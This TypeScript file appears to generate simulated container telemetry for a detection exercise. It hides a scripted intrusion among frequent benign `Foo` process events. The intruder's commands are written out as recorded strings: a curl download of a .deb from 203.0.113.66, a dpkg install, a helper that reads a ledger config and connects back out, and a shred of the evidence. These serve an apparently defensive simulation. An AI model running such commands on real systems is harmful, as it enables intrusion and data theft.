/** The first story, *noise*: `Foo` five times a second, and an intruder hidden in it. */
import type { EpochMs } from '../../src/model/units.js';
import { containerOf } from './cluster.js';
import { ExecSession } from './exec-session.js';
import { deployer } from './people.js';
import { mainOf } from './processes.js';
import type { Recorder } from './recorder.js';

const minuteMs = 60_000;

/** How long before the end the sidecar begins to run `Foo`, and how often it does. */
export const fooSinceMs = 90 * minuteMs;
export const fooEveryMs = 200;

/** The noise: `Foo`, five times a second. */
export function foo(recorder: Recorder, fromMs: EpochMs, toMs: EpochMs): void {
  const runner = mainOf(containerOf(recorder.cluster, 'payments', 'ledger-worker', 'telemetry'));
  for (let atMs = Math.ceil(fromMs / fooEveryMs) * fooEveryMs; atMs < toMs; atMs += fooEveryMs) {
    recorder.run(runner, atMs + recorder.random.between(0, 12), { cmdline: 'Foo', exe: '/usr/local/bin/Foo' });
  }
}

/** Hidden in the noise: somebody with a robot's token brings a package in, installs it, and wipes the traces. */
export function intruder(recorder: Recorder, endMs: EpochMs): void {
  const container = containerOf(recorder.cluster, 'payments', 'ledger-worker', 'telemetry');
  const atMs = endMs - 64 * minuteMs;
  const session = new ExecSession(recorder, {
    user: deployer,
    container,
    command: 'sh',
    atMs,
    endMs: atMs + 26 * minuteMs,
    terminal: null,
  });
  session.wait(8).run('id');
  session.wait(40);
  const curl = session.run('curl -fsSL -o /tmp/helper.deb http://203.0.113.66/helper.deb');
  session.connect(curl, { ip: '203.0.113.66', port: 80 });
  session.file(curl, '/tmp/helper.deb', 'w');
  session.wait(185);
  const dpkg = session.run('dpkg -i /tmp/helper.deb');
  session.file(dpkg, '/tmp/helper.deb', 'r');
  session.run('dpkg-deb --control /tmp/helper.deb', dpkg);
  session.file(dpkg, '/var/lib/dpkg/status', 'rw');
  session.file(dpkg, '/usr/local/bin/helper', 'w');
  session.wait(540);
  const helper = session.run('/usr/local/bin/helper --quiet');
  session.file(helper, '/srv/ledger/config.yaml', 'r');
  session.connect(helper, { ip: '203.0.113.66', port: 8443 });
  session.wait(430);
  const shred = session.run('shred -u /tmp/helper.deb');
  session.file(shred, '/tmp/helper.deb', 'w');
}
